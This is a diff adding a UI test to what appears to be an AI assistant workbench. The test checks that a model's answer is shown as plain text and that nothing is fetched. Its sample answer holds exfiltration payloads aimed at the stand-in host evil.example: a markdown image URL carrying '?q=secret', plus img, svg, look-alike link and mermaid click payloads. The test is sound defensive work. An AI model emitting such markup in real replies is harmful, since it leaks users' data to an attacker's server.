@@ -200,6 +200,35 @@ describe('the workbench', function () {
     await studio.state('idle');
   });
 
+  it('A28, A29, A30: an answer is shown as text: no picture, drawing or link, and nothing is fetched', async () => {
+    const { page } = studio.workbench;
+    await studio.workbench.openFile('cart.ts', 8, 3);
+    const fetched: string[] = [];
+    page.on('request', request => fetched.push(request.url()));
+    const answer =
+      'Look: ![x](https://evil.example/?q=secret) <img src="https://evil.example/i"> <svg><image href="https://evil.example/s"/></svg> [docs](https://github.com.evil.example/) ```mermaid\nclick A "https://evil.example/m"\n```';
+    studio.api.say({ reply: { text: answer } });
+    await studio.type('please make all of this much nicer somehow');
+    await studio.state('idle');
+    const shown = await until('the answer is shown', async () =>
+      (await studio.workbench.entries()).find(({ kind, text }) => kind === 'answer' && text.includes('mermaid')),
+    );
+    assert.equal(shown.text, answer);
+    for (const frame of page.frames())
+      assert.equal(
+        await frame
+          .locator('#entries')
+          .locator('img, svg, a, iframe')
+          .count()
+          .catch(() => 0),
+        0,
+      );
+    assert.deepEqual(
+      fetched.filter(url => url.includes('evil.example')),
+      [],
+    );
+  });
+
   it('A17: the key goes to the address that it was given for, and not to the one that speaks', async () => {
     await studio.workbench.openFile('cart.ts', 8, 3);
     studio.api.say({ reply: { text: 'It adds up all prices.' } });
